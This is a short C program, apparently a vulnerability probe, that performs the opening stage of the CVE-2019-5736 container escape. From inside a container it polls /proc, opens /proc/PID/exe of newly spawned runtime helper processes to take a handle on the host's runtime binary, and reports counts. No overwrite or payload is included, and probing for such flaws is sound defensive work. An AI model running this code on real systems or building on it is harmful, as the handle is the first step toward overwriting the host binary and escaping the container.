/* CVE-2019-5736's first step, from inside a container: watch /proc for processes the runtime brings in
   (an exec's helper, before it becomes the exec'd program) and try to open their /proc/PID/exe, the
   runtime's own binary on the host. Runs for the given seconds, then prints "opened N" (how many such
   binaries it got a handle on), "seen N" (how many new processes it saw) and, for the first opened, its
   path. Nothing is written: a handle alone is what the attack needs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char seen_pids[65536];

int main(int argc, char **argv) {
  int seconds = argc > 1 ? atoi(argv[1]) : 10;
  time_t end = time(NULL) + seconds;
  int opened = 0, seen = 0;
  char first[4096] = "";
  pid_t self = getpid();
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self || pid >= 65536 || seen_pids[pid]) continue;
      char path[64], target[4096];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH | O_CLOEXEC);
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n <= 0) continue; /* gone, or not yet readable: look again */
      target[n] = 0;
      seen_pids[pid] = 1;
      seen++;
      if (fd >= 0 && strstr(target, "berth-init")) {
        if (!opened) snprintf(first, sizeof first, "%s", target);
        opened++;
      }
      if (fd >= 0) close(fd);
    }
    closedir(d);
  }
  printf("seen %d\nopened %d\n%s\n", seen, opened, first);
  return 0;
}
